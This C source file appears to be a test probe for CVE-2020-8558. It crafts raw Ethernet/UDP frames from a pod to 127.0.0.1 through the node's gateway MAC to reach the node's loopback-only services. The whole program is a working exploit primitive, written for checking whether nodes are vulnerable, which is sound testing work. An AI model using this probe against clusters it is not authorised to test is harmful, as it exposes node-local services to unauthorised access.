/*
 * localnet-probe: the CVE-2020-8558 probe of the j8s end-to-end tests, run inside a pod that has CAP_NET_RAW.
 *
 *   localnet-probe IFACE DEST-IP PORT PAYLOAD
 *
 * Crafts IPv4/UDP datagrams from the pod's address on IFACE to DEST-IP:PORT and sends them as Ethernet frames
 * addressed to the MAC of the pod's default gateway (the node's bridge), with an AF_PACKET socket. For DEST-IP
 * 127.0.0.1 this is the packet a node with route_localnet set on its bridge routes to its own loopback services;
 * the pod's own stack would never send it. Prints what it sent; exits 0 once the frames are sent.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netpacket/packet.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

static void die(const char *what) {
    fprintf(stderr, "localnet-probe: %s: %s\n", what, strerror(errno));
    exit(2);
}

static uint16_t checksum(const void *data, size_t length) {
    const uint8_t *bytes = data;
    uint32_t sum = 0;
    for (size_t i = 0; i + 1 < length; i += 2) {
        sum += (uint32_t)(bytes[i] << 8 | bytes[i + 1]);
    }
    if (length & 1) {
        sum += (uint32_t)(bytes[length - 1] << 8);
    }
    while (sum >> 16) {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    return htons((uint16_t)~sum);
}

/* The default gateway of IFACE from /proc/net/route (network byte order), 0 when there is none. */
static uint32_t default_gateway(const char *iface) {
    FILE *routes = fopen("/proc/net/route", "r");
    if (routes == NULL) {
        die("open /proc/net/route");
    }
    char line[256];
    uint32_t gateway = 0;
    while (fgets(line, sizeof line, routes) != NULL) {
        char name[IFNAMSIZ + 1];
        unsigned int destination, via, flags;
        if (sscanf(line, "%16s %x %x %x", name, &destination, &via, &flags) == 4 && strcmp(name, iface) == 0
                && destination == 0 && via != 0) {
            gateway = via;
            break;
        }
    }
    fclose(routes);
    return gateway;
}

/* The MAC of IP from /proc/net/arp; 1 when found. */
static int arp_lookup(const char *ip, uint8_t mac[6]) {
    FILE *arp = fopen("/proc/net/arp", "r");
    if (arp == NULL) {
        die("open /proc/net/arp");
    }
    char line[256];
    int found = 0;
    while (fgets(line, sizeof line, arp) != NULL) {
        char address[64], hw[64];
        unsigned int type, flags;
        unsigned int m[6];
        if (sscanf(line, "%63s 0x%x 0x%x %63s", address, &type, &flags, hw) == 4 && strcmp(address, ip) == 0
                && (flags & 0x2) != 0
                && sscanf(hw, "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) == 6) {
            for (int i = 0; i < 6; i++) {
                mac[i] = (uint8_t)m[i];
            }
            found = 1;
            break;
        }
    }
    fclose(arp);
    return found;
}

int main(int argc, char **argv) {
    if (argc != 5) {
        fprintf(stderr, "usage: localnet-probe IFACE DEST-IP PORT PAYLOAD\n");
        return 1;
    }
    const char *iface = argv[1];
    struct in_addr destination;
    if (inet_pton(AF_INET, argv[2], &destination) != 1) {
        fprintf(stderr, "localnet-probe: bad destination %s\n", argv[2]);
        return 1;
    }
    int port = atoi(argv[3]);
    const char *payload = argv[4];
    size_t payload_length = strlen(payload);

    int inet = socket(AF_INET, SOCK_DGRAM, 0);
    if (inet < 0) {
        die("socket AF_INET");
    }
    struct ifreq request;
    memset(&request, 0, sizeof request);
    strncpy(request.ifr_name, iface, IFNAMSIZ - 1);
    if (ioctl(inet, SIOCGIFINDEX, &request) < 0) {
        die("SIOCGIFINDEX");
    }
    int ifindex = request.ifr_ifindex;
    if (ioctl(inet, SIOCGIFHWADDR, &request) < 0) {
        die("SIOCGIFHWADDR");
    }
    uint8_t own_mac[6];
    memcpy(own_mac, request.ifr_hwaddr.sa_data, 6);
    if (ioctl(inet, SIOCGIFADDR, &request) < 0) {
        die("SIOCGIFADDR");
    }
    struct in_addr own_ip = ((struct sockaddr_in *)&request.ifr_addr)->sin_addr;

    uint32_t gateway_ip = default_gateway(iface);
    if (gateway_ip == 0) {
        fprintf(stderr, "localnet-probe: no default gateway on %s\n", iface);
        return 1;
    }
    char gateway[INET_ADDRSTRLEN];
    inet_ntop(AF_INET, &gateway_ip, gateway, sizeof gateway);
    /* An ordinary datagram to the gateway makes the pod's stack resolve the gateway's MAC. */
    struct sockaddr_in discard = {.sin_family = AF_INET, .sin_port = htons(9), .sin_addr.s_addr = gateway_ip};
    uint8_t gateway_mac[6];
    int resolved = 0;
    for (int attempt = 0; attempt < 50 && !resolved; attempt++) {
        sendto(inet, "", 0, 0, (struct sockaddr *)&discard, sizeof discard);
        usleep(100 * 1000);
        resolved = arp_lookup(gateway, gateway_mac);
    }
    if (!resolved) {
        fprintf(stderr, "localnet-probe: the MAC of gateway %s did not resolve\n", gateway);
        return 1;
    }

    uint8_t frame[ETH_FRAME_LEN];
    size_t ip_length = 20 + 8 + payload_length;
    if (14 + ip_length > sizeof frame) {
        fprintf(stderr, "localnet-probe: payload too long\n");
        return 1;
    }
    memset(frame, 0, sizeof frame);
    memcpy(frame, gateway_mac, 6);
    memcpy(frame + 6, own_mac, 6);
    frame[12] = 0x08;
    frame[13] = 0x00;
    uint8_t *ip = frame + 14;
    ip[0] = 0x45;
    ip[2] = (uint8_t)(ip_length >> 8);
    ip[3] = (uint8_t)ip_length;
    ip[4] = 0x13;
    ip[5] = 0x37;
    ip[6] = 0x40; /* don't fragment */
    ip[8] = 64;   /* TTL */
    ip[9] = IPPROTO_UDP;
    memcpy(ip + 12, &own_ip, 4);
    memcpy(ip + 16, &destination, 4);
    uint16_t ip_checksum = checksum(ip, 20);
    memcpy(ip + 10, &ip_checksum, 2);
    uint8_t *udp = ip + 20;
    udp[0] = 0x9c;
    udp[1] = 0x40; /* source port 40000 */
    udp[2] = (uint8_t)(port >> 8);
    udp[3] = (uint8_t)port;
    udp[4] = (uint8_t)((8 + payload_length) >> 8);
    udp[5] = (uint8_t)(8 + payload_length);
    /* UDP checksum 0: none, which IPv4 allows */
    memcpy(udp + 8, payload, payload_length);

    int raw = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP));
    if (raw < 0) {
        die("socket AF_PACKET (needs CAP_NET_RAW)");
    }
    struct sockaddr_ll link = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_ifindex = ifindex,
                               .sll_halen = 6};
    memcpy(link.sll_addr, gateway_mac, 6);
    for (int i = 0; i < 10; i++) {
        if (sendto(raw, frame, 14 + ip_length, 0, (struct sockaddr *)&link, sizeof link) < 0) {
            die("send");
        }
        usleep(200 * 1000);
    }
    char own[INET_ADDRSTRLEN];
    inet_ntop(AF_INET, &own_ip, own, sizeof own);
    printf("sent 10 frames %s -> %s:%d via gateway %s %02x:%02x:%02x:%02x:%02x:%02x\n", own, argv[2], port, gateway,
           gateway_mac[0], gateway_mac[1], gateway_mac[2], gateway_mac[3], gateway_mac[4], gateway_mac[5]);
    return 0;
}
